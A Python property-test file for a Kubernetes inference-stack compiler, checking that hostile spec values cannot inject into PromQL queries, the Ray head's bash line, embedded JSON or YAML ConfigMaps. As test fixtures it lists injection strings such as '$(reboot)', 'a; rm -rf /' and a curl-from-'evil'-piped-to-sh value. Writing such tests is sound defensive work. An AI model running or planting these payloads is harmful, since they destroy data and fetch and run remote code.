"""No injection: hostile text in the spec never changes the meaning of another language.

Values reach PromQL (KEDA queries, PrometheusRule expressions), shell (the Ray head's
``bash -lc`` line), JSON embedded in a flag (``--kv-transfer-config``), YAML documents
inside ConfigMaps (gateway config, Envoy bootstrap) and label selectors. For each sink a
property test writes hostile strings into the fields that reach it: the compile must
either refuse the stack with a positioned error, or produce output in which the sink
still parses to the same structure with the value intact.
"""

from __future__ import annotations

import copy
import json
import shlex
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from compiler import SpecError, compile_stack
from compiler.serialize import KUSTOMIZATION

from .helpers import dump

SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Characters that mean something in PromQL, shell, JSON or YAML, plus ordinary ones.
HOSTILE = st.text(
    alphabet=st.sampled_from(list("ab-_./:\"'`\\{}()[]$;|&<>#*?! \n\t=,~%@") + ["\x00", "\u2028", "é"]),
    min_size=1,
    max_size=24,
)
INJECTIONS = [
    'llama"}) or vector(1e9) #',
    'x"} or on() vector(1)',
    "$(reboot)",
    "`id`",
    "a; rm -rf /",
    "a'b",
    '{"kv_role": "evil"}',
    "a\nb: c",
]

BASE: dict[str, Any] = {
    "apiVersion": "aibrix.ai/v1alpha1",
    "kind": "InferenceStack",
    "metadata": {"name": "demo", "namespace": "llm"},
    "spec": {
        "gpuPools": [{"name": "l20", "accelerator": "nvidia-l20", "gpusPerNode": 8}],
        "models": [{"name": "m", "source": {"uri": "hf://org/m"}, "placement": {"pools": ["l20"]}}],
    },
}


def _stack(**model: Any) -> dict[str, Any]:
    data = copy.deepcopy(BASE)
    data["spec"]["models"][0].update(model)
    return data


def _compile(data: dict[str, Any], **options: Any) -> list[dict[str, Any]] | None:
    """The compiled objects, or None when the stack is refused with a positioned error."""
    try:
        files = compile_stack(dump(data), source_name="t.yaml", **options)
    except SpecError as exc:
        assert exc.diagnostics and all(d.line >= 1 for d in exc.diagnostics)
        return None
    return [yaml.safe_load(text) for rel, text in files.items() if rel != KUSTOMIZATION]


# --- PromQL: servedModelName -> KEDA query and PrometheusRule expressions ---


def _promql_tokens(expr: str) -> tuple[list[str], list[str]]:
    """(structure, string literals) of a PromQL expression: strings decoded, the rest kept."""
    structure, strings, i = [], [], 0
    while i < len(expr):
        ch = expr[i]
        if ch in "\"'`":
            j, out = i + 1, []
            while expr[j] != ch:  # an unterminated string raises IndexError: the test fails
                if expr[j] == "\\" and ch != "`":
                    j += 1
                out.append(expr[j])
                j += 1
            strings.append("".join(out))
            structure.append("<string>")
            i = j + 1
        else:
            structure.append(ch)
            i += 1
    return structure, strings


def _promql(objects: list[dict[str, Any]]) -> list[str]:
    out = []
    for o in objects:
        if o["kind"] == "ScaledObject":
            out += [t["metadata"]["query"] for t in o["spec"]["triggers"]]
        if o["kind"] == "PrometheusRule":
            out += [r["expr"] for g in o["spec"]["groups"] for r in g["rules"]]
    return out


def _promql_stack(served: str) -> dict[str, Any]:
    data = _stack(
        servedModelName=served,
        replicas={"min": 1, "max": 4},
        autoscaling={"policy": "hpa", "useKeda": True},
        slo={"ttftP99Ms": 500, "tpotP99Ms": 50},
    )
    data["spec"]["observability"] = {"prometheusRules": True}
    return data


BENIGN_PROMQL = _promql(_compile(_promql_stack("benign")) or [])


def test_the_promql_sink_is_exercised() -> None:
    assert len(BENIGN_PROMQL) >= 3 and any("benign" in e for e in BENIGN_PROMQL)


@SETTINGS
@given(HOSTILE)
@pytest.mark.parametrize("extra", INJECTIONS[:3])
def test_served_model_name_cannot_change_a_promql_expression(extra: str, served: str) -> None:
    for value in (served, extra):
        objects = _compile(_promql_stack(value))
        if objects is None:
            continue
        for expr, benign in zip(_promql(objects), BENIGN_PROMQL, strict=True):
            structure, strings = _promql_tokens(expr)
            assert structure == _promql_tokens(benign)[0]
            assert strings == [value if s == "benign" else s for s in _promql_tokens(benign)[1]]


# --- shell: servedModelName and engine.args values -> the Ray head's bash -lc line ---


def _head_script(objects: list[dict[str, Any]]) -> str:
    (cluster,) = [o for o in objects if o["kind"] == "RayCluster"]
    (container,) = cluster["spec"]["headGroupSpec"]["template"]["spec"]["containers"]
    assert container["command"][:2] == ["/bin/bash", "-lc"]
    return str(container["args"][0])


def _ray_stack(served: str, arg: str) -> dict[str, Any]:
    return _stack(servedModelName=served, parallelism={"tensor": 8, "pipeline": 2}, engine={"args": {"chatTemplate": arg}})


BENIGN_SHELL = shlex.split(_head_script(_compile(_ray_stack("benign-name", "benign-arg")) or []))


@SETTINGS
@given(HOSTILE, HOSTILE)
@example("$(reboot)", "a; rm -rf /")
@example("`id`", "x' && curl evil | sh '")
def test_no_value_can_add_a_shell_command_to_the_ray_head(served: str, arg: str) -> None:
    objects = _compile(_ray_stack(served, arg))
    if objects is None:
        return
    words = shlex.split(_head_script(objects))
    assert words == [served if w == "benign-name" else arg if w == "benign-arg" else w for w in BENIGN_SHELL]


# --- JSON embedded in a flag, and YAML inside ConfigMaps: the namespace option and model names ---


@SETTINGS
@given(HOSTILE)
@example('llm","kv_role":"evil')
def test_the_namespace_option_cannot_reach_json_or_envoy_config(namespace: str) -> None:
    data = _stack(kvCache={"enabled": True})
    data["metadata"].pop("namespace")
    data["spec"]["kvCache"] = {}
    data["spec"]["gateway"] = {}
    try:
        objects = _compile(data, namespace=namespace)
    except Exception as exc:  # only the option's usage error is allowed
        assert type(exc).__name__ == "UsageError" and "is not a valid namespace" in str(exc)
        return
    assert objects is not None
    (deployment,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"] == "m"]
    args = deployment["spec"]["template"]["spec"]["containers"][0]["args"]
    config = json.loads(args[args.index("--kv-transfer-config") + 1])
    assert config["kv_role"] == "kv_both" and config["kv_connector_extra_config"]["dns_name"].endswith(f".{namespace}.svc")


@SETTINGS
@given(HOSTILE)
@example("a\nb: c")
def test_a_served_model_name_stays_one_value_in_the_gateway_config(served: str) -> None:
    data = _stack(servedModelName=served)
    data["spec"]["gateway"] = {}
    objects = _compile(data)
    if objects is None:
        return
    configs = [yaml.safe_load(text) for o in objects if o["kind"] == "ConfigMap" for text in o.get("data", {}).values()]
    assert any(_holds(c, served) for c in configs)  # parsed back, the name is one intact value


def _holds(node: Any, value: str) -> bool:
    if isinstance(node, dict):
        return any(k == value or _holds(v, value) for k, v in node.items())
    if isinstance(node, list):
        return any(_holds(v, value) for v in node)
    return node == value


# --- label values: tolerations, node selectors, products ---


@SETTINGS
@given(HOSTILE, HOSTILE)
def test_pool_labels_are_refused_or_valid_label_text(product: str, taint: str) -> None:
    data = copy.deepcopy(BASE)
    data["spec"]["gpuPools"][0].update(product=product, tolerations=[{"key": "gpu", "operator": "Equal", "value": taint}])
    objects = _compile(data)
    if objects is None:
        return
    import re

    label_value = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
    assert label_value.match(product) and len(product) <= 63
    assert label_value.match(taint) and len(taint) <= 63
